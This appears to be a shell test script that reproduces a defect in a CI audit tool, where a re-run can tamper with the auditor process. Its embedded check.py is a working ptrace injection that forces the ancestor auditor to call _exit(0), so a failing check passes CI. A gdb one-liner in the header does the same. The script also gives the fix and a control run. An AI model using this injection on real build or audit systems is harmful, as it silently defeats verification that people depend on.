#!/usr/bin/env bash
# Defect (harness/cli/audit.py audit_commits, harness/history/rerun/sealed.py Sealed.arm): the seal keeps the
# auditing process from LOADING a module a re-run wrote, but nothing keeps a re-run from reaching into the auditor's
# process itself. The re-run's command runs as the job's user, and the auditor stays "dumpable" (no
# prctl(PR_SET_DUMPABLE, 0)): where Yama's ptrace_scope is 0 or Yama is absent (many containers, self-hosted runners,
# this machine), the committed check.py finds its ancestor `harness audit --rerun` in /proc, PTRACE_ATTACHes it
# (ctypes, no tool needed; `gdb -p PID -batch -ex 'call (void)_exit(0)'` does the same), points its instruction
# pointer at libc's _exit with argument 0, and detaches. The audit then exits 0 in the middle of a re-run whose
# command fails (the DONE's record does not reproduce); CI passes. docs/threat-model.md names no such limit.
# Control: the same commit without the injection is refused (exit 1), so the check really fails in CI.
# Correct behaviour: the audit never exits 0 over a result that does not reproduce: before the first re-run the
# auditor makes itself non-dumpable (prctl(PR_SET_DUMPABLE, 0): a same-user process can then neither ptrace it nor
# write /proc/PID/mem) — or refuses to re-run (exit 2) where it cannot — so the attach fails and the audit exits 1.
# Exit 1 while the defect is present, 0 when fixed, 2 on a setup failure (or a machine whose Yama forbids it anyway).
set -u
here=$(cd "$(dirname "$0")/../.." && pwd); export PATH="$here/.venv/bin:$PATH"
T=$(mktemp -d); trap 'rm -rf "$T"' EXIT
export GIT_CONFIG_GLOBAL=/dev/null GIT_CONFIG_NOSYSTEM=1 HOME=$T/home
export GIT_AUTHOR_NAME=D GIT_AUTHOR_EMAIL=d@example.com GIT_COMMITTER_NAME=D GIT_COMMITTER_EMAIL=d@example.com
mkdir -p "$HOME"
command -v harness >/dev/null || { echo "setup failed: no harness in $here/.venv"; exit 2; }
[ "$(uname -s)-$(uname -m)" = Linux-x86_64 ] || { echo "setup: needs Linux x86_64"; exit 2; }
if [ -r /proc/sys/kernel/yama/ptrace_scope ] && [ "$(cat /proc/sys/kernel/yama/ptrace_scope)" != 0 ]; then
  echo "setup: Yama ptrace_scope $(cat /proc/sys/kernel/yama/ptrace_scope) forbids a child tracing its ancestor here"; exit 2
fi
D=$T/w; mkdir -p "$D"
setup() { "$@" >>"$D/log" 2>&1 || { echo "setup failed: $*"; tail -20 "$D/log"; exit 2; }; }
cd "$D"; setup git init -q --bare remote.git
setup git init -q -b main app; cd app; setup git remote add origin ../remote.git
mkdir -p .harness
printf '__pycache__/\n' > .gitignore
cat > check.py <<'PY'
# passes on the laptop; in CI's re-run (a worktree under harness-rerun-*) it fails — and, unless the control's
# marker file exists, first makes its ancestor `harness audit --rerun` call _exit(0)
import ctypes, os, sys
if "harness-rerun-" not in os.getcwd():
    sys.exit(0)
MARK = "@MARK@"  # the control run creates it: no injection

def auditor():
    pid = os.getpid()
    while pid > 1:
        ppid = int(open(f"/proc/{pid}/stat").read().rsplit(")", 1)[1].split()[1])
        cmd = open(f"/proc/{ppid}/cmdline").read()
        if "audit" in cmd and "--rerun" in cmd:
            return ppid
        pid = ppid

def libc_base(pid):
    for line in open(f"/proc/{pid}/maps"):
        parts = line.split()
        if len(parts) >= 6 and os.path.basename(parts[5]).startswith(("libc.so", "libc-")) and parts[2] == "00000000":
            return int(parts[0].split("-")[0], 16)

def inject(pid):
    libc = ctypes.CDLL(None, use_errno=True)
    libc.ptrace.restype = ctypes.c_long
    libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
    addr = ctypes.cast(libc._exit, ctypes.c_void_p).value - libc_base(os.getpid()) + libc_base(pid)
    if libc.ptrace(16, pid, None, None) != 0:  # PTRACE_ATTACH
        print(f"check: attach refused (errno {ctypes.get_errno()})", file=sys.stderr)
        return
    os.waitpid(pid, 0)
    regs = (ctypes.c_ulonglong * 27)()          # struct user_regs_struct
    libc.ptrace(12, pid, None, ctypes.byref(regs))  # PTRACE_GETREGS
    regs[16] = addr; regs[14] = 0; regs[15] = 2**64 - 1; regs[19] = (regs[19] - 256) & ~0xF  # rip, rdi, orig_rax, rsp
    libc.ptrace(13, pid, None, ctypes.byref(regs))  # PTRACE_SETREGS
    libc.ptrace(17, pid, None, None)                 # PTRACE_DETACH

if not os.path.exists(MARK):
    target = auditor()
    if target:
        try:
            inject(target)
        except Exception as exc:
            print(f"check: {exc!r}", file=sys.stderr)
print("check: 1 != 2", file=sys.stderr)
sys.exit(1)
PY
sed -i "s|@MARK@|$T/no-inject|" check.py
cat > .harness/config.yaml <<'YAML'
version: 1
evidence:
  unit_test:
    command: ["python", "check.py"]
YAML
setup harness init; setup harness install; setup git add -A; setup git commit -qm init
setup git push -q origin main; setup git remote set-head origin main
base=$(git rev-parse HEAD)
setup harness task new "Checked"
setup harness requirement add "check.py passes" --priority must
for s in SPECIFYING PLANNED IMPLEMENTING VERIFYING; do setup harness transition $s; done
setup harness evidence unit_test
setup harness requirement set REQ-001 --status verified --evidence unit_test
for e in $(harness gate 2>&1 | grep -o 'harness evidence [a-z_.]*' | awk '{print $3}' | sort -u); do
  setup harness evidence "$e"
done
setup harness transition REVIEWING; setup harness transition GATING
setup harness gate --advance
setup harness transition DONE
setup git add -A; setup git commit -qm done
# control: the same audit without the injection is refused (the check really fails in CI's re-run)
touch "$T/no-inject"
rc=0; harness audit --rerun --base "$base" --to HEAD >>"$D/control.log" 2>&1 || rc=$?
[ "$rc" = 1 ] && grep -q "does not reproduce" "$D/control.log" || { echo "setup failed: control audit exited $rc"; tail -5 "$D/control.log"; exit 2; }
rm -f "$T/no-inject"
rc=0; harness audit --rerun --base "$base" --to HEAD >"$D/audit.log" 2>&1 || rc=$?
tail -3 "$D/audit.log"
if [ "$rc" = 0 ]; then
  echo "DEFECT: audit --rerun exited 0, though check.py failed in the re-run (control: exit 1, does not reproduce):"
  echo "        the re-run ptrace-attached the auditor and made it call _exit(0)"
  exit 1
fi
echo "fixed: audit exited $rc (the re-run could not reach into the auditor)"; exit 0
